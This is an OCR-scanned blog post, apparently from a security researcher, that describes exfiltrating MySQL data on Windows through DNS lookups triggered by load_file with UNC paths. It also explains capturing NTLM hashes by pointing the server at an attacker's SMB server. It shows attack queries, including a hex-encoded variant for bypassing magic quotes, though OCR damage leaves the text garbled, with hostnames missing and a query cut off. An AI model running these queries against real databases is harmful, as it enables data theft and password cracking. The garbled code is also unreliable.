My SQL Exfiltrating Data Over Out Of Band Channels(OOB)

Exfiltrating data over DNS is nowadays a very popular technique. This technique has been well documented for MS-SQL and Oracle databases. I figured out that it is also possible to do the same under Mysql Windows installation.

Here's how:

select load_file(concat('\foo.',(select 'test'),'','a.txt'));

This query will do a dns lookup for You need FILE privileges to call load_file function. It is quite common to find mysql running as 'root' user under windows installation(in connection string).

You can also use the hex encoding to bypass the magic quote restriction:

mysql> select load_file(concat(0x5c5c5c5c732e,(select concat((select mid(version

This resulted in the following DNS query:
05:20:36.349860 IP > yyy.yyy.yyy.yyy.53: 17495 A? (53)

The mysql version is 5.1.30-community

Now, mysql under windows runs as system(by default). If it was to run under any user account(e.g.administrator or a domian admin), then you can make it connect to your SMBserver, send a pre calculated challenge(SMB challenge-response) and from the response obtained from the mysql server, you can then crack the NTLM session hash and thus obtain that user's password.

I made a video demonstration of how to do it under ms-sql using xp_dirtree stored procedure,which i will post soon.